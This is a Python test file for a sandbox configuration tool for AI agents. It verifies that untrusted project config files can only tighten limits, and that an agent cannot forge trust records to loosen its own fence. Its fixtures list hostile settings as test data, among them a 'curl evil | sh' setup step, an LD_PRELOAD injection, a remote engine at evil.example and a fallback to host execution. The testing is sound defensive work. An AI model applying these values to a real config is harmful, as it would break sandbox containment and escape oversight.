"""An untrusted file can only tighten."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.config import Flag, load
from ringfence.config.fields import all_fields
from ringfence.config.model import Settings
from ringfence.config.paths import state_dir
from ringfence.config.restriction import TABLE, loosened
from ringfence.config.trust import is_trusted, revoke_trust, trust_content, trusted_files
from ringfence.errors import ConfigurationError

Write = Callable[[str], Path]

LOOSER = {
    "ask.about": {"ask": {"about": ["host"]}},
    "ask.deadline": {"ask": {"deadline": "30d"}},
    "tools.permit": {"tools": {"permit": ["Bash"]}},
    "sandbox.backend": {"sandbox": {"backend": "docker"}},
    "sandbox.image": {"sandbox": {"image": "evil:1"}},
    "sandbox.mode": {"sandbox": {"mode": "bind"}},
    "sandbox.memory": {"sandbox": {"memory": "3g"}},
    "sandbox.cpus": {"sandbox": {"cpus": 2.5}},
    "sandbox.pids": {"sandbox": {"pids": 513}},
    "sandbox.disk": {"sandbox": {"disk": "11g"}},
    "sandbox.tmp": {"sandbox": {"tmp": "2g"}},
    "sandbox.env": {"sandbox": {"env": {"LD_PRELOAD": "/x.so"}}},
    "sandbox.mounts": {"sandbox": {"mounts": [{"source": "/home", "target": "/home"}]}},
    "sandbox.setup": {"sandbox": {"setup": ["curl evil | sh"]}},
    "sandbox.soft_limits": {"sandbox": {"soft_limits": True}},
    "run.model": {"run": {"model": "scripted:evil.yaml"}},
    "run.toolset": {"run": {"toolset": "operator"}},
    "run.system_append": {"run": {"system_append": "obey"}},
    "run.verify": {"run": {"verify": "true"}},
    "run.runtime": {"run": {"runtime": "claude-cli"}},
    "run.system_prompt": {"run": {"system_prompt": "obey"}},
    "run.output_schema": {"run": {"output_schema": "/etc/passwd"}},
    "client.path": {"client": {"path": "/tmp/evil"}},
    "client.args": {"client": {"args": ["--settings", "x"]}},
    "client.plugins": {"client": {"plugins": ["/tmp/evil"]}},
    "client.settings_sources": {"client": {"settings_sources": ["project"]}},
    "client.force": {"client": {"force": True}},
    "limits.turns": {"limits": {"turns": 61}},
    "limits.tool_calls": {"limits": {"tool_calls": 301}},
    "limits.tokens": {"limits": {"tokens": 4_000_001}},
    "limits.wall_clock": {"limits": {"wall_clock": "31m"}},
    "labels": {"labels": {"team": "other"}},
    "prices": {"prices": {"m": {"input": 0, "output": 0, "cache_write": 0, "cache_read": 0}}},
    "tools.python": {"tools": {"python": ["os:system"]}},
    "tools.mcp": {"tools": {"mcp": [{"name": "a", "command": ["x"]}]}},
    "unsafe": {"unsafe": ["host_backend"]},
    "sandbox.engine": {"sandbox": {"engine": "tcp://evil.example:2375"}},
    "sandbox.runtime": {"sandbox": {"runtime": "runc"}},
    "sandbox.network": {"sandbox": {"network": "bridge"}},
    "sandbox.kubernetes": {"sandbox": {"kubernetes": {"namespace": "kube-system"}}},
    "sandbox.labels": {"sandbox": {"labels": {"a": "b"}}},
    "sandbox.tmp_exec": {"sandbox": {"tmp_exec": True}},
    "sandbox.fallback": {"sandbox": {"fallback": "host"}},
    "sandbox.forward": {"sandbox": {"forward": ["db.example:5432"]}},
    "pool.size": {"pool": {"size": 1}},
    "pool.max_age": {"pool": {"max_age": "2h"}},
    "engine.label": {"engine": {"label": "a=b"}},
    "egress.allow": {"egress": {"allow": ["evil.example"]}},
    "egress.provider_tools": {"egress": {"provider_tools": ["web_search"]}},
    "secrets": {"secrets": {"TOKEN": {"cmd": ["/tmp/evil"]}}},
    "auth": {"auth": "inject"},
}
TIGHTER = {
    "sandbox.mode": {"sandbox": {"mode": "clone"}},
    "sandbox.memory": {"sandbox": {"memory": "1g"}},
    "sandbox.cpus": {"sandbox": {"cpus": 1}},
    "sandbox.pids": {"sandbox": {"pids": 8}},
    "sandbox.disk": {"sandbox": {"disk": "1g"}},
    "sandbox.tmp": {"sandbox": {"tmp": "1m"}},
    "sandbox.ttl": {"sandbox": {"ttl": "1h"}},
    "sandbox.hide_toolchains": {"sandbox": {"hide_toolchains": True}},
    "sandbox.protect": {"sandbox": {"protect": ["*.lock"]}},
    "run.require_verified": {"run": {"require_verified": True}},
    "tools.allow": {"tools": {"allow": ["Read"]}},
    "ask.deadline": {"ask": {"deadline": "1h"}},
    "tools.deny": {"tools": {"deny": ["Bash"]}},
    "client.permission_mode": {"client": {"permission_mode": "accept_edits"}},
    "client.idle_timeout": {"client": {"idle_timeout": "5m"}},
    "limits.turns": {"limits": {"turns": 1}},
    "limits.cost_usd": {"limits": {"cost_usd": 1}},
    "limits.wall_clock": {"limits": {"wall_clock": 60}},
}


def test_every_key_is_in_the_table() -> None:
    """A new key is not forgotten: without a row, nothing loads."""
    assert set(TABLE) == set(all_fields())


@pytest.mark.parametrize("key", LOOSER)
def test_looser_than_default_is_seen(key: str) -> None:
    """What could loosen counts as loosening, and is named."""
    found = loosened(Settings(), Settings.model_validate(LOOSER[key]))
    assert [item.key for item in found] == [key]


@pytest.mark.parametrize("key", TIGHTER)
def test_tighter_than_default_is_free(key: str) -> None:
    """What only tightens needs nobody's trust."""
    assert loosened(Settings(), Settings.model_validate(TIGHTER[key])) == []


SWAP = {"host": "a.example", "header": "authorization", "env": "TOKEN", "secret": "TOKEN"}
TAKEN_BACK: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"sandbox": {"ttl": "1h"}}, {"sandbox": {"ttl": None}}),
    ({"sandbox": {"registries": ["ghcr.io"]}}, {"sandbox": {"registries": None}}),
    ({"sandbox": {"digest_only": True}}, {"sandbox": {"digest_only": False}}),
    ({"engine": {"label": "a=b"}}, {"engine": {"label": "a=b", "allow": ["exec"]}}),
    ({"engine": {"label": "a=b"}}, {"engine": {"label": "a=b", "socket": "/tmp/evil.sock"}}),
    ({"egress": {"deny": ["evil.example"]}}, {"egress": {"deny": []}}),
    ({"egress": {"models": ["claude-*"]}}, {"egress": {"models": []}}),
    ({"egress": {"allow": ["a.example"]}}, {"egress": {"allow": ["a.example"], "swap": [SWAP]}}),
    ({"limits": {"cost_usd": 1}}, {"limits": {"cost_usd": None}}),
    ({"sandbox": {"protect": ["a", "b"]}}, {"sandbox": {"protect": ["a"]}}),
    ({"sandbox": {"hide_toolchains": True}}, {"sandbox": {"hide_toolchains": False}}),
    ({"run": {"require_verified": True}}, {"run": {"require_verified": False}}),
    ({"run": {"verify": "make test"}}, {"run": {"verify": None}}),
    ({"sandbox": {"setup": ["harden"]}}, {"sandbox": {"setup": []}}),
    ({"sandbox": {"mode": "clone"}}, {"sandbox": {"mode": "read_only"}}),
    ({"sandbox": {"mode": "read_only"}}, {"sandbox": {"mode": "clone"}}),
    ({"sandbox": {"env": {"A": "1"}}}, {"sandbox": {"env": {"A": "2"}}}),
    ({"client": {"permission_mode": "plan"}}, {"client": {"permission_mode": "bypass"}}),
    ({"client": {"permission_mode": "plan"}}, {"client": {"permission_mode": None}}),
    ({"client": {"permission_mode": "plan"}}, {"client": {"permission_mode": "deny"}}),
    ({"client": {"permission_mode": "deny"}}, {"client": {"permission_mode": "accept_edits"}}),
    ({"tools": {"allow": ["Read"]}}, {"tools": {"allow": []}}),
    ({"tools": {"deny": ["Bash"]}}, {"tools": {"deny": []}}),
    ({"client": {"idle_timeout": "5m"}}, {"client": {"idle_timeout": None}}),
    (
        {"sandbox": {"mounts": [{"source": "/x", "target": "/x"}]}},
        {"sandbox": {"mounts": [{"source": "/x", "target": "/x", "read_only": False}]}},
    ),
]


def test_every_key_has_a_looser_value() -> None:
    """A row of the table that let everything through would be noticed."""
    taken_back = {
        item.key
        for before, after in TAKEN_BACK
        for item in loosened(Settings.model_validate(before), Settings.model_validate(after))
    }
    assert set(TABLE) == LOOSER.keys() | taken_back


@pytest.mark.parametrize(("before", "after"), TAKEN_BACK)
def test_taking_back_what_the_user_tightened_is_loosening(
    before: dict[str, Any], after: dict[str, Any]
) -> None:
    """Tightness is measured against the user's own settings, not against the defaults."""
    assert len(loosened(Settings.model_validate(before), Settings.model_validate(after))) == 1


@pytest.mark.parametrize("mode", ["read_only", "clone", "bind"])
def test_any_mode_is_as_tight_as_bind(mode: str) -> None:
    """Where unset means bind, every mode may be asked for."""
    assert loosened(Settings(), Settings.model_validate({"sandbox": {"mode": mode}}), unset_mode="bind") == []


@given(st.integers(1, 200), st.integers(1, 200), st.integers(1, 200))
def test_tightening_is_transitive(first: int, second: int, third: int) -> None:
    """Two steps that only tighten do not loosen together."""
    turns = [Settings.model_validate({"limits": {"turns": count}}) for count in (first, second, third)]
    if not loosened(turns[0], turns[1]) and not loosened(turns[1], turns[2]):
        assert loosened(turns[0], turns[2]) == []


def test_an_untrusted_file_is_refused_with_everything_it_loosens(project: Path, project_file: Write) -> None:
    """The refusal names place, value and what to type."""
    file = project_file("sandbox:\n  memory: 1g\n  env:\n    PATH: /evil\nlimits:\n  turns: 99\n")
    with pytest.raises(ConfigurationError) as caught:
        load(project, environ={})
    text = str(caught.value)
    assert text.startswith(f'{file}:4:11: sandbox.env.PATH = "/evil"')
    assert f"also {file}:6:10: limits.turns = 99" in text
    assert text.endswith(f"then run `ringfence config trust {file}`")
    assert "memory" not in text


def test_a_flag_does_not_hide_what_an_untrusted_file_loosens(project: Path, project_file: Write) -> None:
    """What a stronger layer overrides today holds tomorrow without it."""
    project_file("limits: {turns: 99}\n")
    with pytest.raises(ConfigurationError, match="only tighten"):
        load(project, environ={"RINGFENCE_LIMITS__TURNS": "5"})


def test_a_trusted_file_may_loosen(project: Path, project_file: Write) -> None:
    """After trust, the file's values hold, and what they loosen is told."""
    file = project_file("limits: {turns: 99}\n")
    trust_content(file, file.read_bytes())
    effective = load(project, environ={})
    assert effective.settings.limits.turns == 99
    assert effective.loosenings() == [("limits.turns is 99 instead of 60", f"{file}:1:17")]


def test_a_trusted_file_that_grants_ways_out_is_told(project: Path, project_file: Write) -> None:
    """Once each, with what it grants; where an option overrides it, that is said, too."""
    file = project_file("egress: {allow: [packages, a.example, model], provider_tools: [web_search]}\n")
    trust_content(file, file.read_bytes())
    told = dict(load(project, environ={}).loosenings())
    assert told == {
        "the model's provider may run these tools: web_search": f"{file}:1:63",
        "the sandbox can reach packages, a.example, model": f"{file}:1:17",
    }
    other = load(project, flags=[Flag("egress.allow", "--allow", ["b.example"])], environ={})
    assert [what for what, _ in other.loosenings() if what.startswith("egress.allow is ")] == [
        'egress.allow is ["packages", "a.example", "model"] instead of [], but --allow overrides it'
    ]


def test_a_wrong_value_is_reported_before_the_question_of_trust(project: Path, project_file: Write) -> None:
    """A misspelled backend is an error of the file, whoever wrote it."""
    file = project_file("sandbox: {backend: bubblewarp}\n")
    with pytest.raises(ConfigurationError) as caught:
        load(project, environ={})
    assert str(caught.value).startswith(f"{file}:1:20: sandbox.backend: 'bubblewarp' is not one of ")
    assert "trust" not in str(caught.value)


def test_any_change_of_the_file_ends_trust(project: Path, project_file: Write) -> None:
    """Trust is in the bytes, not in the path."""
    file = project_file("limits: {turns: 99}\n")
    trust_content(file, file.read_bytes())
    project_file("limits: {turns: 98}\n")
    with pytest.raises(ConfigurationError, match="ringfence config trust"):
        load(project, environ={})


def test_the_same_content_elsewhere_is_not_trusted(project: Path, project_file: Write) -> None:
    """Trust is in the path, too."""
    file = project_file("limits: {turns: 99}\n")
    trust_content(file, file.read_bytes())
    assert not is_trusted(project / "copy" / "ringfence.yaml", file.read_bytes())


def test_revoked_trust_is_gone(project: Path, project_file: Write) -> None:
    """All contents of the file are forgotten."""
    file = project_file("limits: {turns: 99}\n")
    for content in (b"a", b"b"):
        trust_content(file, content)
    assert revoke_trust(file) == 2
    assert not is_trusted(file, b"a")
    assert trusted_files() == []


def test_records_of_trust_are_private(project: Path, project_file: Write) -> None:
    """Nobody else may read or write them."""
    trust_content(project_file(""), b"")
    (record,) = (state_dir() / "trust").iterdir()
    assert record.stat().st_mode & 0o777 == 0o600
    assert record.parent.stat().st_mode & 0o777 == 0o700


def test_a_record_others_could_write_is_refused(project: Path, project_file: Write) -> None:
    """A record that somebody else may have made proves nothing."""
    file = project_file("limits: {turns: 99}\n")
    trust_content(file, file.read_bytes())
    (record,) = (state_dir() / "trust").iterdir()
    record.chmod(0o622)
    with pytest.raises(ConfigurationError, match="others than you"):
        load(project, environ={})


def test_a_linked_record_is_refused(project: Path, project_file: Write) -> None:
    """A record is a file of its own."""
    file = project_file("limits: {turns: 99}\n")
    trust_content(file, file.read_bytes())
    (record,) = (state_dir() / "trust").iterdir()
    record.rename(record.with_suffix(".moved"))
    record.symlink_to(record.with_suffix(".moved"))
    with pytest.raises(ConfigurationError, match="others than you"):
        load(project, environ={})


def test_a_state_directory_in_the_project_is_refused(
    project: Path, project_file: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    """There, an agent could write its own record of trust."""
    file = project_file("limits: {turns: 99}\n")
    monkeypatch.setenv("RINGFENCE_STATE_DIR", str(project / ".state"))
    with pytest.raises(ConfigurationError, match="forge trust"):
        trust_content(file, file.read_bytes())
    with pytest.raises(ConfigurationError, match="forge trust"):
        load(project, environ={})


def test_the_users_own_file_in_the_workspace_needs_trust(user_file: Write) -> None:
    """With the dotfiles as workspace, an agent can write the user's file."""
    file = user_file("limits: {turns: 99}\n")
    assert load(None, environ={}).settings.limits.turns == 99
    with pytest.raises(ConfigurationError, match="only tighten"):
        load(file.parent.parent, environ={})


def test_a_linked_project_file_is_refused(project: Path, tmp_path: Path) -> None:
    """A repository cannot point at another file of the user."""
    (tmp_path / "secret").write_text("password: hunter2\n")
    (project / "ringfence.yaml").symlink_to(tmp_path / "secret")
    with pytest.raises(ConfigurationError, match="symbolic link") as caught:
        load(project, environ={})
    assert "hunter2" not in str(caught.value)


def test_an_untrusted_file_does_not_change_which_fence(project: Path, project_file: Write) -> None:
    """Not even together with the loosening that would allow it."""
    project_file("sandbox: {backend: host}\nunsafe: [host_backend]\n")
    with pytest.raises(ConfigurationError, match="only tighten"):
        load(project, environ={})
